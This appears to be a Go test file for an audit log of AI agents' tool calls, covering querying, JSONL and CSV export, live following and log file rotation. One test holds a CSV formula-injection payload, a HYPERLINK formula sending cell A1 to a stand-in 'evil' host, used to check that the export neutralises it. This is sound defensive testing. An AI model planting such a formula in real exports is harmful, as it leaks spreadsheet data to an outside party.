package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/alter-mcp/alter-mcp/audit"
	"github.com/alter-mcp/alter-mcp/store"
)

// fixture writes entries of every shape: ended, denied, in flight, and one
// interrupted; times one minute apart from base.
func fixture(t *testing.T) (*audit.Log, store.Store, time.Time) {
	t.Helper()
	s, _ := openStore(t)
	base := time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)
	var mu sync.Mutex
	now := base
	clock := func() time.Time {
		mu.Lock()
		defer mu.Unlock()
		now = now.Add(time.Minute)
		return now
	}
	l := openLog(t, s, audit.Options{Now: clock})
	ctx := t.Context()
	for i := range 6 {
		call(t, l, &audit.Entry{Caller: []string{"claude", "cursor"}[i%2], GrantID: "grt_a", Tool: "aws_request",
			Operation: []string{"GetObject", "PutObject", "ListBuckets"}[i%3], Reason: fmt.Sprintf("call %d", i)})
	}
	deny := &audit.Entry{Caller: "cursor", GrantID: "grt_b", Decision: audit.DecisionDeny, Outcome: audit.OutcomeDenied, Rule: "read_only", Operation: "PutObject"}
	call(t, l, deny)
	// One that dies with its (abandoned) log, marked by the next Open.
	dying := openLog(t, s, audit.Options{Now: clock})
	if err := dying.Begin(ctx, &audit.Entry{Caller: "claude", Decision: audit.DecisionAllow, Operation: "GetObject", Reason: "dies"}); err != nil {
		t.Fatal(err)
	}
	audit.Abandon(dying)
	if n, err := l.MarkInterrupted(ctx); err != nil || n != 1 {
		t.Fatalf("MarkInterrupted: %d, %v", n, err)
	}
	// One still in flight.
	if err := l.Begin(ctx, &audit.Entry{Caller: "claude", Decision: audit.DecisionAllow, Operation: "GetObject", Reason: "running"}); err != nil {
		t.Fatal(err)
	}
	return l, s, base
}

func reasons(es []audit.Entry) string {
	var out []string
	for _, e := range es {
		r := e.Reason
		if r == "" {
			r = e.Outcome
		}
		out = append(out, r)
	}
	return strings.Join(out, ",")
}

func TestList(t *testing.T) {
	t.Parallel()
	l, _, base := fixture(t)
	ctx := t.Context()
	all, err := l.List(ctx, audit.Query{})
	if err != nil {
		t.Fatal(err)
	}
	want := "call 0,call 1,call 2,call 3,call 4,call 5,denied,dies,running"
	if got := reasons(all); got != want {
		t.Fatalf("List: %s\nwant %s", got, want)
	}
	for i, e := range all[:7] {
		if e.Kind != audit.KindEnd || e.Hash == "" || e.Seq != int64(2*i+2) {
			t.Errorf("entry %d is shown as record %d (%s), want its end record", i, e.Seq, e.Kind)
		}
	}
	if e := all[7]; e.Kind != audit.KindInterrupted || e.Outcome != audit.OutcomeInterrupted {
		t.Errorf("dying entry: %+v", e)
	}
	if e := all[8]; e.Kind != audit.KindBegin || e.Outcome != "" {
		t.Errorf("running entry: %+v", e)
	}

	_, recs4, err := l.Get(ctx, all[4].ID)
	if err != nil {
		t.Fatal(err)
	}
	begin4 := recs4[0]
	for _, tc := range []struct {
		q    audit.Query
		want string
	}{
		{audit.Query{Limit: 3}, "denied,dies,running"},
		{audit.Query{Limit: 1}, "running"},
		{audit.Query{Limit: 100}, want},
		{audit.Query{Caller: "cursor"}, "call 1,call 3,call 5,denied"},
		{audit.Query{Caller: "cursor", Limit: 2}, "call 5,denied"},
		{audit.Query{Decision: audit.DecisionDeny}, "denied"},
		{audit.Query{GrantID: "grt_a", Operation: "GetObject"}, "call 0,call 3"},
		{audit.Query{Tool: "aws_request", Limit: 1}, "call 5"},
		{audit.Query{Since: begin4.RecordedAt, Until: all[5].RecordedAt.Add(time.Nanosecond)}, "call 4,call 5"},
		{audit.Query{Since: begin4.RecordedAt.Add(time.Nanosecond), Until: all[5].RecordedAt}, "call 4,call 5"},
		{audit.Query{Since: base.Add(24 * time.Hour)}, ""},
		{audit.Query{Caller: "nobody"}, ""},
	} {
		got, err := l.List(ctx, tc.q)
		if err != nil {
			t.Fatal(err)
		}
		if reasons(got) != tc.want {
			t.Errorf("List(%+v) = %s, want %s", tc.q, reasons(got), tc.want)
		}
	}
	if _, err := l.List(ctx, audit.Query{Limit: -1}); err == nil {
		t.Error("negative limit accepted")
	}
}

func TestGet(t *testing.T) {
	t.Parallel()
	l, _, _ := fixture(t)
	all, _ := l.List(t.Context(), audit.Query{})
	e, recs, err := l.Get(t.Context(), all[1].ID)
	if err != nil {
		t.Fatal(err)
	}
	if e.Reason != "call 1" || e.Kind != audit.KindEnd || len(recs) != 2 || recs[0].Kind != audit.KindBegin || recs[1].Hash != e.Hash {
		t.Errorf("Get: %+v, %d records", e, len(recs))
	}
	if recs[0].Status != 0 || recs[1].Status != 200 {
		t.Errorf("records as written: begin status %d, end status %d", recs[0].Status, recs[1].Status)
	}
	if _, _, err := l.Get(t.Context(), "aud_nope"); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("Get of an unknown id: %v", err)
	}
}

func TestExport(t *testing.T) {
	t.Parallel()
	l, s, _ := fixture(t)
	ctx := t.Context()
	recs := records(t, s)
	bySeq := map[int64]store.AuditRecord{}
	for _, r := range recs {
		bySeq[r.Seq] = r
	}

	var buf bytes.Buffer
	n, err := l.Export(ctx, &buf, audit.FormatJSONL, audit.Query{})
	if err != nil || n != 9 {
		t.Fatalf("export jsonl: %d, %v", n, err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != 9 {
		t.Fatalf("%d lines", len(lines))
	}
	list, _ := l.List(ctx, audit.Query{})
	for i, line := range lines {
		checkLine(t, line, bySeq[list[i].Seq]) // the same entries, in the same order, as List
	}

	buf.Reset()
	n, err = l.Export(ctx, &buf, audit.FormatCSV, audit.Query{Caller: "cursor"})
	if err != nil || n != 4 {
		t.Fatalf("export csv: %d, %v", n, err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || !slices.Equal(rows[0], audit.CSVColumns) {
		t.Fatalf("csv: %d rows, header %v", len(rows), rows[0])
	}
	col := func(row []string, name string) string { return row[slices.Index(audit.CSVColumns, name)] }
	if col(rows[4], "outcome") != "denied" || col(rows[4], "rule") != "read_only" || col(rows[1], "status") != "200" ||
		col(rows[1], "reason") != "call 1" || len(col(rows[1], "hash")) != 64 {
		t.Errorf("csv rows %v", rows)
	}

	if _, err := l.Export(ctx, &buf, "xml", audit.Query{}); err == nil {
		t.Error("export as xml succeeded")
	}
}

// TestCSVFormulas: what an agent writes cannot become a formula in a
// spreadsheet.
func TestCSVFormulas(t *testing.T) {
	t.Parallel()
	s, _ := openStore(t)
	l := openLog(t, s, audit.Options{})
	call(t, l, &audit.Entry{Reason: `=HYPERLINK("http://evil/?"&A1)`, Caller: "@bot", Tool: "-x", Client: "+1"})
	var buf bytes.Buffer
	if _, err := l.Export(t.Context(), &buf, audit.FormatCSV, audit.Query{}); err != nil {
		t.Fatal(err)
	}
	rows, _ := csv.NewReader(&buf).ReadAll()
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
}

func TestFollow(t *testing.T) {
	t.Parallel()
	l, _, _ := fixture(t)
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	got := make(chan audit.Entry, 100)
	errc := make(chan error, 1)
	go func() {
		errc <- l.Follow(ctx, audit.Query{Caller: "claude", Limit: 2}, 10*time.Millisecond, func(e audit.Entry) error {
			got <- e
			return nil
		})
	}()
	next := func() audit.Entry {
		t.Helper()
		select {
		case e := <-got:
			return e
		case <-ctx.Done():
			t.Fatal("Follow sent nothing")
		}
		return audit.Entry{}
	}
	if a, b := next(), next(); a.Reason != "dies" || b.Reason != "running" {
		t.Fatalf("Follow started with %q, %q", a.Reason, b.Reason)
	}
	e := &audit.Entry{Caller: "claude", Reason: "new", Decision: audit.DecisionAllow}
	if err := l.Begin(ctx, e); err != nil {
		t.Fatal(err)
	}
	if f := next(); f.Reason != "new" || f.Kind != audit.KindBegin {
		t.Errorf("followed %+v", f)
	}
	call(t, l, &audit.Entry{Caller: "cursor", Reason: "filtered out"})
	e.Outcome, e.Status = audit.OutcomeOK, 200
	if err := l.End(ctx, e); err != nil {
		t.Fatal(err)
	}
	if f := next(); f.Reason != "new" || f.Kind != audit.KindEnd {
		t.Errorf("followed %+v", f)
	}
	cancel()
	if err := <-errc; err != nil {
		t.Errorf("Follow: %v", err)
	}
	select {
	case f := <-got:
		t.Errorf("Follow also sent %+v", f)
	default:
	}
}

func TestFileSinkRotates(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	path := filepath.Join(dir, "audit.jsonl")
	s, err := audit.OpenFileSink(path, 1000, 2)
	if err != nil {
		t.Fatal(err)
	}
	e := audit.Entry{ID: "aud_x", Reason: strings.Repeat("r", 300), Kind: audit.KindEnd}
	line, _ := audit.Line(e)
	for i := range 10 {
		e.Seq = int64(i + 1)
		if err := s.Append(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := s.Append(t.Context(), e); err == nil {
		t.Error("Append after Close succeeded")
	}
	perLine := len(line) // about 390 bytes: two lines fit in 1000
	files, _ := filepath.Glob(path + "*")
	slices.Sort(files)
	if len(files) != 3 {
		t.Fatalf("files %v, want the file and 2 backups", files)
	}
	var seqs []string
	for _, f := range []string{path + ".2", path + ".1", path} {
		info, err := os.Stat(f)
		if err != nil {
			t.Fatal(err)
		}
		if info.Size() > 1000 || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: %d bytes, mode %v", f, info.Size(), info.Mode().Perm())
		}
		for l := range strings.Lines(readFile(t, f)) {
			if len(l) < perLine-2 || !strings.HasSuffix(l, "}\n") {
				t.Errorf("%s: a broken line %q", f, l)
			}
			seqs = append(seqs, l[strings.Index(l, `"seq":`)+6:][:2])
		}
	}
	// Lines 5 to 10 remain, two per file, oldest in .2.
	if got := strings.Join(seqs, " "); got != `5, 6, 7, 8, 9, 10` {
		t.Errorf("seqs in the files: %s", got)
	}

	// Reopened, it appends; with no backups it starts over.
	s, err = audit.OpenFileSink(path, 1000, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	for range 3 {
		s.Append(t.Context(), e)
	}
	if n := strings.Count(readFile(t, path), "\n"); n != 1 {
		t.Errorf("%d lines after rotation without backups, want 1", n)
	}
}
